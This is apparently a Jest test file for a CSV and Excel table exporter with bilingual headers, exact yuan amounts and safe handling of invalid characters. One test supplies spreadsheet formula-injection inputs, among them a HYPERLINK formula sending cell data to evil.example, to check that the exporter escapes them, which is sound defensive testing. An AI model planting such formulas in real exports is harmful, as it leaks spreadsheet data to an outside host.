import { describe, expect, it } from '@jest/globals';
import ExcelJS from 'exceljs';
import { addTable, moneyCell, MONEY_FORMAT, newWorkbook, toCsv, workbookBuffer, type Column } from './table.js';

interface Row {
  name: string;
  amount: number | null;
  at: Date;
}
const columns: Array<Column<Row>> = [
  { header: { zh: '名称', en: 'Name' }, width: 20, value: (r) => r.name },
  { header: { zh: '金额', en: 'Amount' }, width: 12, value: (r) => moneyCell(r.amount), numFmt: MONEY_FORMAT },
  { header: { zh: '时间', en: 'At' }, width: 20, value: (r) => r.at },
];
const rows: Row[] = [
  { name: '正极材料, "NCM811"', amount: 128_050, at: new Date('2027-03-01T01:00:00Z') },
  { name: 'plain', amount: null, at: new Date('2027-03-02T01:00:00Z') },
];

describe('tables as files', () => {
  it('writes CSV with a bilingual header, exact two-decimal amounts and RFC 4180 quoting, readable as UTF-8', () => {
    const text = toCsv(columns, rows).toString('utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(text.slice(1).split('\r\n')).toEqual([
      '名称 / Name,金额 / Amount,时间 / At',
      '"正极材料, ""NCM811""",1280.50,2027-03-01T01:00:00.000Z',
      'plain,,2027-03-02T01:00:00.000Z',
      '',
    ]);
  });

  it('keeps text a spreadsheet would run as a formula as text in CSV, and amounts and numbers as they are', () => {
    const hostile: Row[] = [
      '=HYPERLINK("http://evil.example/?x="&A1,"付款")',
      '+1+1',
      '-2+3',
      '@SUM(A1)',
      '\tx',
      '\rx',
    ].map((name) => ({ name, amount: -37_055, at: new Date('2027-03-01T01:00:00Z') }));
    const lines = toCsv(columns, hostile).toString('utf8').slice(1).split('\r\n').slice(1, -1);
    expect(lines).toEqual([
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""付款"")",-370.55,2027-03-01T01:00:00.000Z`,
      "'+1+1,-370.55,2027-03-01T01:00:00.000Z",
      "'-2+3,-370.55,2027-03-01T01:00:00.000Z",
      "'@SUM(A1),-370.55,2027-03-01T01:00:00.000Z",
      "'\tx,-370.55,2027-03-01T01:00:00.000Z",
      `"'\rx",-370.55,2027-03-01T01:00:00.000Z`,
    ]);
  });

  it('writes a worksheet with a title, the header in both languages and amounts as formatted yuan', async () => {
    const workbook = newWorkbook();
    addTable(workbook, 'Sheet', 'A title', columns, rows);
    const read = new ExcelJS.Workbook();
    await read.xlsx.load((await workbookBuffer(workbook)) as unknown as ExcelJS.Buffer);
    const sheet = read.getWorksheet('Sheet');
    expect(sheet?.getRow(1).getCell(1).value).toBe('A title');
    expect(sheet?.getRow(2).getCell(2).value).toBe('金额\nAmount');
    expect(sheet?.getRow(3).getCell(2).value).toBe(1280.5);
    expect(sheet?.getRow(3).getCell(2).numFmt).toBe(MONEY_FORMAT);
    expect(sheet?.getRow(4).getCell(2).value).toBeNull();
  });

  it('writes totals exactly: numbers while a cell holds them to the fen, exact text past 15 digits', async () => {
    const totals: Array<Column<{ fen: bigint }>> = [
      { header: { zh: '合计', en: 'Total' }, width: 24, value: (r) => moneyCell(r.fen), numFmt: MONEY_FORMAT },
    ];
    const values = [999_999_999_999_999n, 1_000_000_000_000_000n, 9_007_199_254_740_993n, -9_007_199_254_740_993n];
    const csv = toCsv(
      totals,
      values.map((fen) => ({ fen })),
    ).toString('utf8');
    expect(csv.slice(1).split('\r\n').slice(1, -1)).toEqual([
      '9999999999999.99',
      '10000000000000.00',
      '90071992547409.93',
      // A negative amount is written by us, never a formula: it stays as it is.
      '-90071992547409.93',
    ]);
    const workbook = newWorkbook();
    addTable(
      workbook,
      'Totals',
      'Totals',
      totals,
      values.map((fen) => ({ fen })),
    );
    const read = new ExcelJS.Workbook();
    await read.xlsx.load((await workbookBuffer(workbook)) as unknown as ExcelJS.Buffer);
    const cells = [3, 4, 5, 6].map((row) => read.getWorksheet('Totals')?.getRow(row).getCell(1));
    expect(cells.map((c) => c?.value)).toEqual([
      9_999_999_999_999.99,
      '10000000000000.00',
      '90071992547409.93',
      '-90071992547409.93',
    ]);
    expect(cells.map((c) => c?.alignment?.horizontal)).toEqual([undefined, 'right', 'right', 'right']);
  });

  it('writes text an XML file cannot carry (U+FFFF, a lone surrogate) as U+FFFD, so the worksheet still opens', async () => {
    // Stored before such input was refused: one cell must not make the whole file unreadable.
    const workbook = newWorkbook();
    addTable(workbook, 'Sheet', 'round \uFFFE', columns, [
      { name: '苏州\uFFFF材料 \uD800', amount: null, at: new Date('2027-03-01T01:00:00Z') },
    ]);
    const read = new ExcelJS.Workbook();
    await read.xlsx.load((await workbookBuffer(workbook)) as unknown as ExcelJS.Buffer);
    const sheet = read.getWorksheet('Sheet');
    expect(sheet?.getRow(1).getCell(1).value).toBe('round \uFFFD');
    expect(sheet?.getRow(3).getCell(1).value).toBe('苏州\uFFFD材料 \uFFFD');
  });
});
